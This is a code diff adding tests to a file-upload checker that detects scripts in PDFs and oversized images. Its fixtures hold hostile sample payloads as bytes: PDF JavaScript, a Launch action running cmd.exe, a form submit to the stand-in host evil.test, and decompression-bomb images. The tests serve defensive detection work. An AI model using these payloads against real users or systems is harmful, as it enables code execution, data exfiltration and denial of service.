@@ -23,6 +23,7 @@ from zhengshu.foundation.files.judging import (
 )
 from zhengshu.foundation.files.kinds import KINDS
 from zhengshu.foundation.files.names import MOST_LETTERS, file_name
+from zhengshu.foundation.files.pictures import pixels_of
 from zhengshu.foundation.files.tests import contents as made
 from zhengshu.kernel.errors import Refused
 
@@ -90,6 +91,13 @@ class TestJudge:
             ("a.pdf", made.pdf_with(b"<< /S /J#61va#53cript /JS (app.alert(1)) >>"), FileHasScripts),
             ("a.pdf", made.pdf_with(b"<</S/Launch/F(cmd.exe)>>"), FileHasScripts),
             ("a.pdf", made.pdf_with_packed(b"1 0 << /S /JavaScript >>"), FileHasScripts),
+            ("a.pdf", made.pdf_with(b"<< /AcroForm << /XFA 7 0 R >> >>"), FileHasScripts),
+            ("a.pdf", made.pdf_with(b"<< /#58FA[(config) 7 0 R] >>"), FileHasScripts),
+            ("a.pdf", made.pdf_with(b"<</AA<</O<</S/SubmitForm/F(http://evil.test)>>>>>>"), FileHasScripts),
+            ("a.pdf", made.pdf_with(b"<</S/ImportData/F(x.fdf)>>"), FileHasScripts),
+            ("a.png", made.png(60_000, 60_000), FileUnfolds),
+            ("a.jpg", made.jpeg(65_000, 65_000), FileUnfolds),
+            ("a.webp", made.webp(16_000, 16_000), FileUnfolds),
             (
                 "a.pdf",
                 made.pdf_with(b"<< /Type /ObjStm >>\nstream\nnot packed\nendstream"),
@@ -113,6 +121,18 @@ class TestJudge:
             judge(made.PNG, name="a.png", taken=(".pdf", ".exe"))
 
         assert refused.value.data["known"] == ".pdf"
+
+    @pytest.mark.parametrize(
+        "content",
+        [made.png(9933, 14_043), made.jpeg(9933, 14_043), made.webp(9933, 14_043), made.JPEG, made.PNG],
+    )
+    def test_takes_a_large_scan_and_what_no_program_opens(self, content: bytes) -> None:
+        name = {b"\x89": "a.png", b"\xff": "a.jpg"}.get(content[:1], "a.webp")
+
+        assert judge(content, name=name).ending == name[1:]
+
+    def test_looks_no_longer_for_the_frame_of_a_picture_than_it_must(self) -> None:
+        assert pixels_of(b"\xff\xd8" + b"\xff\x01" * (8 << 20)) is None
 
     def test_reads_a_mapped_file(self, tmp_path: Path) -> None:
         path = tmp_path / "a"
